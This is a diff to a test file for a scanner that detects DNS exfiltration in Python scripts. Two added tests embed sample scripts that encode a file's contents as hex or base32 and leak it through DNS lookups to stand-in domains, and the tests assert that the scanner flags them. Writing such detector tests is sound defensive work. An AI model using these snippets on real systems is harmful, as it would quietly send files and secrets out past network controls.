@@ -61,3 +61,44 @@ def test_a_lookup_of_a_configured_host_stays_quiet(tmp_path: Path) -> None:
         "    print(tag, socket.gethostbyname(host))\n"
     )
     assert _scan(tmp_path, script) == set()
+
+
+def test_labels_a_generator_yields_from_hex_looked_up_in_a_loop(tmp_path: Path) -> None:
+    script = (
+        "import sys, dns.resolver\n"
+        "SUFFIX = '.cachewarm.example.net'\n\n\n"
+        "def chunks(blob):\n"
+        "    h = blob.hex()\n"
+        "    for start in range(0, len(h), 50):\n"
+        "        yield h[start:start + 50] + SUFFIX\n\n\n"
+        "data = open(sys.argv[1], 'rb').read()\n"
+        "for query in chunks(data):\n"
+        "    dns.resolver.resolve(query, 'TXT')\n"
+    )
+    assert any(rule == "DNS_EXFILTRATION" for rule, _, _ in _scan(tmp_path, script))
+
+
+def test_base32_labels_a_function_returns_looked_up_in_a_comprehension(tmp_path: Path) -> None:
+    script = (
+        "import base64, socket, sys\n\n\n"
+        "def names(text, zone='m.latency-lab.example'):\n"
+        "    enc = base64.b32encode(text.encode()).decode().rstrip('=')\n"
+        "    return [enc[i:i + 55] + '.' + zone for i in range(0, len(enc), 55)]\n\n\n"
+        "settings = open(sys.argv[1]).read()\n"
+        "answers = [socket.gethostbyname(n) for n in names(settings)]\n"
+    )
+    assert any(rule == "DNS_EXFILTRATION" for rule, _, _ in _scan(tmp_path, script))
+
+
+def test_hosts_a_function_reads_from_a_config_looked_up_in_a_loop_stay_quiet(tmp_path: Path) -> None:
+    script = (
+        "import configparser, hashlib, socket, sys\n\n\n"
+        "def nodes(path):\n"
+        "    cp = configparser.ConfigParser()\n"
+        "    cp.read(path)\n"
+        "    return [v.split(':')[0] for _, v in cp.items('nodes')]\n\n\n"
+        "for host in nodes(sys.argv[1]):\n"
+        "    tag = hashlib.sha1(host.encode()).hexdigest()[:6]\n"
+        "    print(tag, socket.getaddrinfo(host, 443))\n"
+    )
+    assert _scan(tmp_path, script) == set()
